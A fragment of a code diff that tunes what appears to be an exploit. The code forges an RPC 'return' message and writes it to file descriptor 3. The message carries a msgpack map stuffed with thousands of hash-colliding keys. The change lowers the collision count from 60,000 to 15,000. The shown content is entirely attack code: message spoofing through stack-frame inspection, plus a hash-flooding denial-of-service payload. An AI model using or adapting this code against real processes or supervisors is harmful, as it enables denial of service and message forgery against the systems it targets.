@@ -25,14 +25,14 @@ def collisions(count):
     return found
 
 
-KEYS = b"".join(msgpack.packb(msgpack.ExtType(1, msgpack.packb(list(pair)))) + b"\x01" for pair in collisions(60_000))
+KEYS = b"".join(msgpack.packb(msgpack.ExtType(1, msgpack.packb(list(pair)))) + b"\x01" for pair in collisions(15_000))
 
 
 def forge(*args, **kwargs):
     caller = sys._getframe()
     while not isinstance(caller.f_locals.get("serial"), int):
         caller = caller.f_back
-    body = msgpack.packb([caller.f_locals["serial"], "return", 0])[:-1] + b"\xdf" + struct.pack(">I", 60_000) + KEYS
+    body = msgpack.packb([caller.f_locals["serial"], "return", 0])[:-1] + b"\xdf" + struct.pack(">I", 15_000) + KEYS
     data = memoryview(struct.pack("<II", len(body), 0) + body)
     while data:
         data = data[os.write(3, data) :]
